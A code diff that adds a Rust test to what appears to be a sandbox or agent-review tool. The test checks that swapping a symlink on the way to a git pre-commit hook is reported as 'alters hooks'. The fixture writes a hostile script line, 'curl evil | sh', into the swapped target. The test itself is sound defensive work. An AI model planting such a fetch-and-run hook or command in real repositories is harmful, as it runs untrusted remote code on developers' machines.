@@ -85,6 +85,27 @@ fn what_a_hook_links_to_counts() {
     assert!(card.contains("alters hooks") && card.contains("check.sh"), "{card}");
 }
 
+/// Every link on the way to a hook decides what runs.
+#[test]
+fn a_link_on_the_way_to_a_hook_counts() {
+    let shop = Shop::new();
+    let file = |name: &str| shop.repo().join(name);
+    std::fs::create_dir_all(file("scripts")).unwrap();
+    std::fs::write(file("scripts/v1.sh"), "#!/bin/sh\n").unwrap();
+    std::os::unix::fs::symlink("v1.sh", file("scripts/current")).unwrap();
+    shop.git(&["add", "-A"]);
+    shop.git(&["commit", "-q", "-m", "check"]);
+    std::os::unix::fs::symlink("../../scripts/current", file(".git/hooks/pre-commit")).unwrap();
+    let run = shop.start();
+    std::fs::remove_file(file("scripts/current")).unwrap();
+    std::fs::write(file("scripts/current"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    let repo = shop.repo();
+    shop.sandbox.ok(&["run", "patch", "--from-worktree", repo.to_str().unwrap(), "--run", &run]);
+    let decision = shop.sandbox.ok(&["run", "finish", "--run", &run]).trim().to_owned();
+    let card = shop.sandbox.ok(&["show", &decision]);
+    assert!(card.contains("alters hooks") && card.contains("scripts/current"), "{card}");
+}
+
 /// What an agent says of its change becomes part of the commit, but never who decided.
 #[test]
 fn a_rationale_does_not_say_who_decided() {
